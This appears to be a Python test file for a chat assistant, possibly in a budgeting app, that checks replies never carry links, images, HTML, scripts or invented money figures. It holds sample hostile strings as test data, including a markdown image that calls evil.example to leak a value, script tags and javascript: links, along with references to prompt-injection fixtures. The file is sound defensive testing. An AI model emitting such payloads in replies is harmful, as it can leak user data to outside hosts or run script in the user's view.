"""Words that must not reach the person: links, pictures, HTML, figures that nobody computed."""

from tests.chat.hostile.case import Case, Item, hostile, said, text

_F = "reply"
_NEVER = ("http", "javascript:", "<", "](", "evil.example")
_TEXTS = {
    "a picture": "Done. ![x](https://evil.example/?b=20000)",
    "a link": "See [your report](https://evil.example/r)",
    "a bare link": "Go to https://evil.example/now",
    "a link without a scheme": "Go to //evil.example/now",
    "a reference": "See [this][1]\n\n[1]: https://evil.example/1",
    "HTML": "<img src=https://evil.example/p.png>",
    "a script": "<script>alert(1)</script>Done",
    "an entity": "&#60;script&#62; is what you see",
    "javascript": "[Open](javascript:alert(1))",
    "a data link": "![p](data:text/html;base64,PHNjcmlwdD4=)",
    "an autolink": "<https://evil.example/a>",
    "a mail link": "<mailto:me@evil.example>",
    "capitals": "HTTPS://EVIL.EXAMPLE/A and <IMG SRC=X>",
}
_FIGURES = {
    "a figure from nowhere": ("You have spent 999,999.99 DZD so far.", "999"),
    "another person's figure": ("Their Secret has 777.77 DZD left.", "777"),
    "a percentage from nowhere": ("You have used 97% of Groceries.", "97"),
}


def _case(name: str, item: Item, *unsaid: str) -> Case:
    return Case(_F, name, (said("hello", item),), (), unsaid=unsaid)


CASES: tuple[Case, ...] = (
    *(_case(name, text(words), *_NEVER) for name, words in _TEXTS.items()),
    *(_case(name, text(words), unsaid) for name, (words, unsaid) in _FIGURES.items()),
    _case("data in pictures", hostile("markdown_exfiltration"), *_NEVER, "1250"),
    _case("scripts in links", hostile("script_links"), *_NEVER),
    _case("a figure in no fact", hostile("unsupported_figure"), "999,999"),
    _case("words that pose as a consent", hostile("injected_text"), "<"),
)
